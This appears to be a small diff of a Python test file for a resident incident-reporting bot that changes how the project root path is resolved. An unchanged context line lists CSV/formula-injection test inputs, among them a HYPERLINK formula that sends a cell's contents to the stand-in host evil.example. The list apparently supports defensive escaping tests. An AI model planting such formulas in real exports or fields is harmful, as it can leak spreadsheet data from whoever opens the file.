@@ -25,7 +25,7 @@ from bot.engines.console import run_console
 from storage.db import Database
 from storage.models import Incident, IncidentNote, IncidentPhoto, Site
 
-ROOT = Path(__file__).resolve().parent.parent
+ROOT = Path(__file__).resolve().parents[2]
 AT = datetime(2026, 11, 23, 2, 0, tzinfo=UTC)
 # What residents can make their display name or message say (OWASP CSV injection).
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+86 138 0000 0000", "-1+1", "@SUM(A1)", "\tTAB", "\rCR"]
